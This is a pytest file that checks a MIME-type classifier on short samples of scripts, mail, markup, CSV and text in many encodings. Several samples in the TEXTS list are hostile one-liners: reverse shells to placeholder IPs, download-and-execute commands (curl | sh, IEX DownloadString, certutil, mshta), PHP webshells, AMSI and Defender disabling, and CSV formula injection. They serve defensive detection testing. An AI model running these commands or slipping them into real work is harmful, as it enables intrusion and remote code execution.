"""
What kind of text it is: languages, mail, markup and tables, in whatever encoding.
"""

# ruff: noqa: RUF001, E501  (letters of every script; samples keep their lines)
from __future__ import annotations

import pytest

from orchestrator.classify import classify
from orchestrator.contracts.assignment import Classification

#: (MIME type, text of that type).
TEXTS = [
    ("text/x-python", 'import os\nos.system("id")\n'),
    ("text/x-powershell", "Function Foo { Write-Output 1 }\nFoo\n"),
    ("text/vbscript", 'Dim a: a = "b": Execute(a)\r\n'),
    ("text/asp", '<%eval request("x")%>'),
    ("text/asp", '<%@ WebHandler Language="C#" Class="A" %>'),
    (
        "text/javascript",
        "eval(function(p,a,c,k,e,d){return p}('0',1,1,'a'.split('|')))",
    ),
    ("text/asp", '<%@ Page Language="C#" %>\n<script runat="server">'),
    ("application/x-setupscript", "[autorun]\r\nopen=x.exe\r\n"),
    ("message/rfc822", "X-Unsent: 1\nTo: a@b.c\nSubject: d\n\n<html>"),
    ("message/rfc822", "MIME-Version: 1.0\nContent-Type: multipart/mixed\n\n--x"),
    (
        "text/x-python",
        'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("10.0.0.1",4444))\n',
    ),
    ("text/x-python", 'exec(__import__("base64").b64decode("cHJpbnQoMSk="))'),
    (
        "text/x-python",
        'from urllib.request import urlopen\nexec(urlopen("http://x/y").read())\n',
    ),
    ("text/x-python", "def main():\n    pass\n\nmain()\n"),
    (
        "text/x-python",
        '# -*- coding: utf-8 -*-\nimport requests\n\nr = requests.get("http://x")\nprint(r.text)\n',
    ),
    ("text/x-python", '"""Doc."""\nclass A:\n    x = 1\n'),
    ("text/x-python", 'import base64\nexec(base64.b64decode("aaa"))'),
    ("text/x-python", 'print("hello")\nfor i in range(3):\n    print(i)\n'),
    ("text/x-python", "import sys\nprint sys.argv\nfor x in sys.argv:\n    print x\n"),
    (
        "text/x-python",
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0,1,0x3000,0x40)\n",
    ),
    ("text/x-python", "try:\n    import json\nexcept ImportError:\n    pass\n"),
    (
        "text/x-powershell",
        '$c = New-Object System.Net.WebClient\n$c.DownloadFile("http://x","y")',
    ),
    ("text/x-powershell", "Get-Process | Where-Object { $_.CPU -gt 5 }"),
    ("text/x-powershell", 'IEX(New-Object Net.WebClient).DownloadString("http://x")'),
    (
        "text/x-powershell",
        '$a=[System.Convert]::FromBase64String("AAAA")\n[Reflection.Assembly]::Load($a)',
    ),
    ("text/x-powershell", "param([string]$x)\nWrite-Host $x"),
    ("text/x-powershell", 'function Invoke-Evil {\n  Write-Output "x"\n}'),
    ("text/x-powershell", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("text/x-powershell", "iwr http://x/y.ps1 | iex"),
    ("text/x-powershell", "Start-Process calc.exe"),
    ("text/x-powershell", '$x = 1\nif ($x -eq 1) { "a" }'),
    (
        "text/x-powershell",
        '[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")\n[System.Net.ServicePointManager]::SecurityProtocol = 3072',
    ),
    ("text/x-powershell", 'Write-Host "hello"'),
    ("text/x-powershell", "Invoke-WebRequest -Uri http://x -OutFile y"),
    ("text/vbscript", 'MsgBox "hi"'),
    ("text/vbscript", "Dim x\nx = 1\nWScript.Echo x\n"),
    ("text/vbscript", 'Set o = CreateObject("WScript.Shell")\no.Run "calc"'),
    ("text/vbscript", 'Sub AutoOpen()\n  Shell "calc"\nEnd Sub'),
    ("text/vbscript", 'Attribute VB_Name = "Module1"\nSub Document_Open()\nEnd Sub'),
    ("text/vbscript", "On Error Resume Next\nx=1"),
    ("text/vbscript", 'CreateObject("WScript.Shell").Run "calc.exe"'),
    ("text/vbscript", "Private Sub Workbook_Open()\nEnd Sub"),
    ("text/vbscript", '\' comment\nFunction f(a)\nf = a & "x"\nEnd Function\n'),
    (
        "text/vbscript",
        'Dim fso, f\nSet fso = CreateObject("Scripting.FileSystemObject")\n',
    ),
    ("text/vbscript", "For i = 1 To 10\n x = x & Chr(i)\nNext\nExecute x"),
    ("text/vbscript", 'WScript.Echo "Hello"\nWScript.Quit'),
    ("text/javascript", 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");'),
    ("text/javascript", 'WScript.Echo("hi");\nWScript.Quit(0);'),
    ("text/javascript", "function f(a) { return a + 1; }\nf(2);"),
    ("text/javascript", 'const fs = require("fs");\nfs.readFileSync("x");'),
    ("text/javascript", '!function(){eval("x")}();'),
    ("text/javascript", "(function(){var a=1;})();"),
    ("text/javascript", 'console.log("x");'),
    ("text/javascript", 'import x from "y";\nexport default x;'),
    ("text/javascript", "eval(String.fromCharCode(97,98))"),
    ("text/javascript", 'document.write(unescape("%3Cscript%3E"));'),
    ("text/javascript", "var a = 1;\nvar b = 2;\n"),
    (
        "text/javascript",
        'try { var x = WScript.CreateObject("WScript.Shell"); x.Run("calc"); } catch(e) {}',
    ),
    ("text/javascript", 'window.location = "http://x";'),
    ("text/javascript", 'let x = async () => { await fetch("u"); };'),
    ("text/javascript", 'x = WScript.CreateObject("WScript.Shell"); x.Run("calc");'),
    ("text/javascript", "alert(1);\nvar x = 1;"),
    ("text/x-msdos-batch", "@echo off\necho hi"),
    ("text/x-msdos-batch", "echo off\r\ncls\r\n"),
    ("text/x-msdos-batch", 'set A=1\r\nif "%A%"=="1" goto end\r\n:end\r\n'),
    ("text/x-msdos-batch", "powershell -nop -w hidden -enc AAAA"),
    ("text/x-msdos-batch", 'start "" "%TEMP%\\x.exe"\r\ndel "%~f0"'),
    ("text/x-msdos-batch", "certutil -urlcache -f http://x y.exe\r\nstart y.exe"),
    ("text/x-msdos-batch", "rem x\r\nset P=calc\r\ncall %P%\r\n"),
    ("text/x-msdos-batch", "for %%i in (*.txt) do del %%i"),
    ("text/x-msdos-batch", "reg add HKCU\\Software\\X /v a /d b"),
    ("text/x-msdos-batch", "@start calc"),
    ("text/x-msdos-batch", "copy x.exe %APPDATA%\\x.exe\r\nstart %APPDATA%\\x.exe\r\n"),
    ("text/x-msdos-batch", "net user a b /add\r\nnet stop x\r\npause\r\n"),
    ("text/x-msdos-batch", "mshta http://x/y.hta"),
    ("text/x-msdos-batch", "timeout /t 5\r\nping 127.0.0.1 >nul\r\n"),
    (
        "text/x-shellscript",
        "cd /tmp || cd /var/run; wget http://x/a; chmod 777 a; ./a; rm -rf a",
    ),
    ("text/x-shellscript", "if [ -f /x ]; then\n echo y\nfi\n"),
    ("text/x-shellscript", 'for f in *; do echo "$f"; done'),
    ("text/x-shellscript", "curl http://x | sh"),
    ("text/x-shellscript", 'export PATH=/x:$PATH\necho "$PATH"\n'),
    ("text/x-shellscript", "bash -i >& /dev/tcp/1.2.3.4/44 0>&1"),
    ("text/x-shellscript", "foo() {\n  ls\n}\nfoo"),
    ("text/x-shellscript", "set -e\ncd /x\nmake"),
    ("text/x-shellscript", "wget http://x/y.sh -O /tmp/y\nchmod +x /tmp/y\n/tmp/y\n"),
    ("text/x-shellscript", "while true; do\n sleep 1\ndone\n"),
    (
        "text/x-shellscript",
        '(crontab -l; echo "* * * * * x") | crontab -\nrm -f /tmp/x\nkill -9 $(pidof y)',
    ),
    ("text/x-php", "<?php echo 1; ?>"),
    ("text/x-php", '<?php eval($_POST["x"]);'),
    ("text/x-php", '<html><body><?php system($_GET["c"]); ?></body></html>'),
    ("text/x-php", "<?= $x ?>"),
    ("text/x-php", "\n\n<?php\nclass A {}"),
    ("text/x-php", "<?php x();"),
    ("text/x-perl", 'use strict;\nuse warnings;\nprint "x\\n";'),
    (
        "text/x-perl",
        'use Socket;\n$i="1.2.3.4";$p=4444;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));',
    ),
    ("text/x-perl", "my $x = 1;\nprint $x;\n"),
    ("text/x-perl", "sub foo {\n my ($a) = @_;\n}\n"),
    ("text/x-perl", "package Foo::Bar;\nuse IO::Socket;\n"),
    ("text/x-perl", '$x = <STDIN>;\nif ($x =~ /a/) { print "y"; }\n'),
    ("text/x-ruby", "require 'socket'\ns = TCPSocket.new('1.2.3.4', 44)\n"),
    ("text/x-ruby", "class A < B\n  def x\n  end\nend\n"),
    ("text/x-ruby", 'puts "hi"\nputs 1\ndef a\nend\n'),
    ("text/x-ruby", "[1,2].each do |x|\n puts x\nend\n"),
    ("text/x-ruby", "module Foo\n  class Bar\n  end\nend\n"),
    ("text/x-ruby", "require 'open-uri'\neval(open('http://x').read)\n"),
    ("text/plain", 'local x = require("y")\nlocal function f()\nend\n'),
    ("text/plain", "local a = 1\nif a == 1 then\n print(a)\nend\n"),
    ("text/x-wsf", '<job><script language="JScript">x</script></job>'),
    (
        "text/x-wsf",
        '<package><job id="a"><script language="VBScript">x</script></job></package>',
    ),
    (
        "text/x-wsf",
        '<?xml version="1.0"?>\n<job id="x"><script language="JScript"><![CDATA[x]]></script></job>',
    ),
    (
        "text/scriptlet",
        '<?XML version="1.0"?>\n<scriptlet><registration progid="x"><script language="JScript">x</script></registration></scriptlet>',
    ),
    ("text/scriptlet", "<scriptlet></scriptlet>"),
    (
        "application/hta",
        "<html><head><hta:application id=x></head><script>x</script></html>",
    ),
    (
        "application/hta",
        '<HTA:APPLICATION ID="x"/>\n<script language="vbscript">x</script>',
    ),
    ("text/html", "<script>alert(1)</script>"),
    ("text/html", '<a href="x">y</a>'),
    ("text/html", "<div class=x>"),
    ("text/html", "<!DOCTYPE html>\n<html>"),
    ("text/html", "<meta http-equiv=refresh>"),
    ("text/html", "<HTML><BODY>"),
    ("text/html", "<iframe src=x>"),
    ("message/rfc822", "From: a@b.c\nTo: d@e.f\nSubject: hi\n\nx"),
    ("message/rfc822", "Received: from x by y; Mon\nSubject: a\nFrom: b@c.d\n\n"),
    ("message/rfc822", "Return-Path: <a@b>\nDelivered-To: x@y\nReceived: by x\n\n"),
    (
        "message/rfc822",
        "From a@b.c Mon Jan  1 00:00:00 2024\nFrom: a@b.c\nSubject: x\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMessage-ID: <a@b>\n\n",
    ),
    (
        "message/rfc822",
        "MIME-Version: 1.0\nFrom: a@b.c\nTo: d@e.f\nSubject: x\nContent-Type: multipart/related; boundary=a\n\n",
    ),
    (
        "message/rfc822",
        'Date: Mon, 1 Jan 2024 00:00:00 +0000\nFrom: "A" <a@b.c>\nSubject: x\nTo: z@y.x\n\nhi',
    ),
    (
        "message/rfc822",
        "Subject: x\nFrom: A <a@b.c>\nMIME-Version: 1.0\nContent-Type: text/plain\n\n",
    ),
    (
        "message/rfc822",
        'To: b@c.d\nSubject: Invoice\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n--x\n',
    ),
    (
        "multipart/related",
        'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\nContent-Location: file:///C:/a.htm\n',
    ),
    (
        "multipart/related",
        'From: <Saved by Blink>\nSnapshot-Content-Location: http://x\nSubject: y\nDate: Mon, 1 Jan 2024\nMIME-Version: 1.0\nContent-Type: multipart/related;\n\ttype="text/html"\n\n',
    ),
    (
        "multipart/related",
        "rubbish\nmime-version: 1.0\ncontent-type: Multipart/Related; boundary=x\n\n",
    ),
    (
        "multipart/related",
        'From: "Saved by Windows Internet Explorer 8"\nSubject: x\nDate: Mon\nMIME-Version: 1.0\nContent-Type: multipart/related;\n\tboundary="a"\nX-MimeOLE: Produced By Microsoft MimeOLE V6\n\n',
    ),
    ("text/csv", "a,b,c\n1,2,3\n4,5,6\n"),
    ("text/csv", "a;b\n1;2\n3;4\n5;6\n"),
    ("text/csv", "a\tb\n1\t2\n3\t4\n5\t6\n"),
    ("text/csv", "=cmd|'/c calc'!A0"),
    ("text/csv", "name,x\n\"a\",=cmd|'/k x'!A1\n"),
    ("text/csv", '"a, b",c,d\n"e",f,g\n'),
    ("text/calendar", "BEGIN:VCALENDAR\nVERSION:2.0\n"),
    ("text/vcard", "BEGIN:VCARD\nVERSION:3.0\n"),
    ("application/json", '{"a": 1}'),
    ("application/json", '[{"a": 1}]'),
    ("application/json", '[\n  {\n    "x": []'),
    ("application/json", '["a","b"]'),
    ("application/json", '{\n "a":{'),
    (
        "text/plain",
        "Dear all,\nplease set the value and let me know if it works. Then go to the next\nif you want to then stop.\n",
    ),
    ("text/plain", "From: Alice\nTo: Bob\nSubject: lunch\n\nSee you"),
    (
        "text/plain",
        "2024-01-01 12:00:00,123 INFO start, user=x, ip=1.2.3.4\n2024-01-01 12:00:01,123 INFO stop\n",
    ),
    ("text/plain", "[section]\nkey=value\npath=%TEMP%\\x\n"),
    ("text/plain", "key: value\nlist:\n  - a\n  - b\n"),
    ("text/plain", "import duties were raised in May.\nfor all of us this is bad\n"),
    (
        "text/plain",
        "To run it, use Invoke-Expression or Get-Process with care.\nThe cmdlet Write-Host prints.\n",
    ),
    (
        "text/plain",
        "# Title\n\nSome text here that explains it.\n\n```python\nimport os\nprint(1)\n```\n",
    ),
    (
        "text/plain",
        "HTTP/1.1 200 OK\nDate: Mon, 1 Jan 2024 00:00:00 GMT\nContent-Type: text/html\nServer: x\n\n",
    ),
    ("text/plain", "Date: 2024\nServer: x\nContent-Type: text/html\n\n"),
    (
        "text/plain",
        "Metadata-Version: 2.1\nName: x\nVersion: 1\nAuthor-email: a@b.c\n\n",
    ),
    ("text/plain", "SELECT a FROM b WHERE c = 1;\nINSERT INTO x VALUES (1);\n"),
    ("text/plain", "body { color: red; }\n.a { b: c }\n"),
    ("text/plain", "server {\n  listen 80;\n  location / { }\n}\n"),
    ("text/plain", "export the file\necho of the past\nset the table\n"),
    ("text/plain", "name=x\nversion=${y}\nLibs: -L${libdir}\n"),
    (
        "text/plain",
        'FROM python:3\nRUN apt-get update && apt-get install -y x\nCMD ["x"]\n',
    ),
    (
        "text/plain",
        "Jan 1 00:00:00 host sshd[1]: Failed password for root\nJan 1 00:00:01 host sshd[1]: x\n",
    ),
    (
        "text/plain",
        '127.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1\n',
    ),
    ("text/plain", "let x be a number and let y be another.\nvar x is bad.\n"),
    ("text/plain", "if you see this then stop\nend of the line\n"),
    ("text/plain", "MZ is the mark of DOS."),
    ("text/plain", "%PDF- is how a PDF begins, and trailer is at its end"),
    ("text/plain", 'data = b"%PDF-1.4 1 0 obj"\n'),
    ("text/plain", "local authorities said\nfunction of the heart\nend\n"),
    ("text/plain", "PING 127.0.0.1\n64 bytes from x: time=1\n"),
    ("text/plain", "Set-Cookie: a=b\nHost: x\n\n"),
    ("text/plain", "class of 1990\ndef of x:\n"),
    ("text/plain", "a, b, and c went out;\nd, e, and f came in.\n"),
    ("text/plain", "#include <stdio.h>\nint main() { return 0; }"),
    ("text/plain", "package a.b;\nimport java.util.List;\npublic class X { }"),
    ("text/plain", 'package main\n\nimport "fmt"\nfunc main() {\n}\n'),
    ("text/plain", "use std::io;\nfn main() {\n let x = 5;\n}\n"),
    ("text/plain", "using System;\nnamespace A {\n class B { } }"),
    (
        "text/plain",
        "using System;\nvar builder = WebApplication.CreateBuilder(args);\nvar app = builder.Build();\n",
    ),
    ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ("image/svg+xml", '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "x" "y"><svg></svg>'),
    ("text/x-ms-regedit", "Windows Registry Editor Version 5.00\r\n"),
    ("application/x-mswinurl", "[InternetShortcut]\r\nURL=x"),
]

_FLAT_ODF = (
    '<?xml version="1.0"?>\n<office:document xmlns:office='
    '"urn:oasis:names:tc:opendocument:xmlns:office:1.0" {more} office:mimetype='
    '"application/vnd.oasis.opendocument.{kind}"><office:body/></office:document>'
)
_FLAT_OPC = (
    '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n'
    '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
    '<pkg:part pkg:name="/word/document.xml" pkg:contentType="{main_part}"/>'
)
_WORDML = (
    '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"/>'
)
_SPREADSHEETML = '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'

#: One sentence each, in pages of before Unicode.
_LEGACY = {
    "cp1250": "Příliš žluťoučký kůň úpěl ďábelské ódy.",
    "cp1251": "Съешь же ещё этих мягких французских булок, да выпей чаю.",
    "koi8_r": "Съешь же ещё этих мягких французских булок, да выпей чаю.",
    "cp866": "Съешь же ещё этих мягких французских булок, да выпей чаю.",
    "cp1252": "Zwölf Boxkämpfer jagen Viktor quer über den großen Sylter Deich.",
    "cp1253": "Ξεσκεπάζω την ψυχοφθόρα βδελυγμία.",
    "cp1254": "Pijamalı hasta yağız şoföre çabucak güvendi.",
    "cp1255": "דג סקרן שט בים מאוכזב ולפתע מצא לו חברה.",
    "cp1256": "نص حكيم له سر قاطع وذو شأن عظيم مكتوب على ثوب أخضر.",
    "cp1257": "Įlinkdama fechtuotojo špaga sublykčiojusi pragręžė apvalų arbūzą.",
    "cp874": "เป็นมนุษย์สุดประเสริฐเลิศคุณค่า กว่าบรรดาฝูงสัตว์",
    "cp437": "Zwölf Boxkämpfer jagen Viktor quer über den Deich.",
    "shift_jis": "いろはにほへと ちりぬるを わかよたれそ つねならむ",
    "euc_jp": "いろはにほへと ちりぬるを わかよたれそ つねならむ",
    "iso2022_jp": "いろはにほへと ちりぬるを わかよたれそ つねならむ",
    "gbk": "我能吞下玻璃而不伤身体。我能吞下玻璃而不伤身体。",
    "big5": "我能吞下玻璃而不傷身體。我能吞下玻璃而不傷身體。",
    "euc_kr": "나는 유리를 먹을 수 있어요. 그래도 아프지 않아요.",
}  # fmt: skip
_UNICODE = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"]
_UNICODE_WITHOUT_MARK = ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"]


def _classify(content: bytes) -> Classification:
    return classify(content, content, len(content))


@pytest.mark.parametrize(("mime_type", "text"), TEXTS)
def test_a_text_is_told_by_what_it_says(mime_type: str, text: str):
    assert _classify(text.encode()).mime_type == mime_type


@pytest.mark.parametrize("encoding", _UNICODE)
def test_the_encoding_changes_nothing(encoding: str):
    for mime_type, text in TEXTS:
        found = _classify(text.encode(encoding))
        assert found.mime_type == mime_type, text


@pytest.mark.parametrize("page", sorted(_LEGACY))
def test_a_sentence_in_an_older_page_is_text(page: str):
    assert _classify(_LEGACY[page].encode(page)).mime_type == "text/plain"


@pytest.mark.parametrize("encoding", _UNICODE_WITHOUT_MARK)
@pytest.mark.parametrize("page", sorted(_LEGACY))
def test_a_sentence_without_a_byte_order_mark_is_text(page: str, encoding: str):
    assert _classify(_LEGACY[page].encode(encoding)).mime_type == "text/plain"


@pytest.mark.parametrize(
    ("line", "mime_type"),
    [
        ('\' {comment}\r\nSet a = CreateObject("WScript.Shell")', "text/vbscript"),
        ("// {comment}\nvar a = new ActiveXObject('b');", "text/javascript"),
        ("rem {comment}\r\n@echo off\r\n", "text/x-msdos-batch"),
        ("# {comment}\nimport os\nos.system('id')\n", "text/x-python"),
        ("# {comment}\nWrite-Host 'a'\n", "text/x-powershell"),
        ("<html><p>{comment}</html>", "text/html"),
        ("<?xml version='1.0'?><a>{comment}</a>", "text/xml"),
    ],
)
@pytest.mark.parametrize("page", sorted(_LEGACY))
def test_what_is_written_in_an_older_page_is_told(line: str, mime_type: str, page: str):
    comment = _LEGACY[page]

    assert _classify(line.format(comment=comment).encode(page)).mime_type == mime_type


@pytest.mark.parametrize(
    ("first_line", "mime_type"),
    [
        ("#!/bin/sh", "text/x-shellscript"),
        ("#!/usr/bin/env bash", "text/x-shellscript"),
        ("#! /usr/bin/python3 -E", "text/x-python"),
        ("#!/usr/bin/perl -w", "text/x-perl"),
        ("#!/usr/bin/env ruby", "text/x-ruby"),
        ("#!/usr/bin/env node", "text/javascript"),
        ("#!/usr/bin/php", "text/x-php"),
        ("#!/usr/bin/env pwsh", "text/x-powershell"),
        ("#!/opt/other", "text/x-script"),
        ("#![allow(dead_code)]", "text/plain"),
    ],
)
def test_a_first_line_names_the_language(first_line: str, mime_type: str):
    assert _classify(f"{first_line}\na\n".encode()).mime_type == mime_type


def test_a_wrong_mark_hides_no_script():
    assert _classify(b"\xff\xfe&cls\r\n@echo off\r\n").type == "script"


def test_a_script_that_unpacks_what_follows_is_a_script():
    assert _classify(b"#!/bin/sh\nexit\n" + bytes(range(256)) * 9).type == "script"


@pytest.mark.parametrize("kind", ["text", "spreadsheet", "presentation", "graphics"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_flat_open_document_is_told_by_its_root(kind: str, encoding: str):
    many = " ".join(f'xmlns:n{n}="urn:a-namespace-of-some-length"' for n in range(80))
    text = _FLAT_ODF.format(more=many, kind=kind)
    found = _classify(text.encode(encoding))
    mime_type = f"application/vnd.oasis.opendocument.{kind}-flat-xml"

    assert (found.type, found.mime_type) == ("odf", mime_type)


def test_a_flat_package_has_the_type_of_its_main_part():
    template = "application/vnd.openxmlformats-officedocument.wordprocessingml.template"
    found = _classify(_FLAT_OPC.format(main_part=f"{template}.main+xml").encode())

    assert (found.type, found.mime_type) == ("ooxml", template)


@pytest.mark.parametrize(
    "before", ["", "<?xml version='1.0'?>", "<!-- a --> <?b c?>\n"]
)
@pytest.mark.parametrize(
    ("root", "mime_type"),
    [
        (_WORDML, "application/vnd.ms-wordml"),
        (_SPREADSHEETML, "application/vnd.ms-spreadsheetml"),
        ("<svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
    ],
)
def test_xml_is_told_by_its_root(before: str, root: str, mime_type: str):
    assert _classify((before + root).encode()).mime_type == mime_type


def test_other_xml_is_xml_if_it_says_so():
    assert _classify(b"<?xml version='1.0'?>\n<a:workbook/>").mime_type == "text/xml"
    assert _classify(b"<?xml version='1.0'").mime_type == "text/xml"
    assert _classify(b"<workbook/>").mime_type == "text/plain"


def test_a_text_about_a_language_is_no_script():
    prose = "This chapter tells how loops are written and why they should be short.\n"
    text = prose * 9 + "import os\nfor x in y:\n" + prose * 9

    assert _classify(text.encode()).mime_type == "text/plain"


@pytest.mark.parametrize(
    "lines",
    [
        ("Title", "=====", "", ".. code-block:: python", "", "import os", "def f():"),
        ("(defun f ()", "  (get-buffer 'a)", "  (set-buffer (get-process 'b)))"),
        ("on: push", "jobs:", "  - run: |", "      if [ -f a ]; then", "      fi"),
        ("cmake_minimum_required(VERSION 3.5)", "if(A)", "endif()", "set(B ${C})"),
        ("all:", "\tif [ -f a ]; then b; fi", "\techo $(C)", ".PHONY: all"),
        ("#include <stdio.h>", "int main(void) {", "  return 0;", "}"),
        ("a = 1", "b = 2", "[c]", 'd = "e"'),
        ("| What | How |", "|---|---|", "| to do | that |"),
    ],
)
def test_what_is_no_script_is_text(lines: tuple[str, ...]):
    assert _classify("\n".join(lines).encode()).super_type == "text"
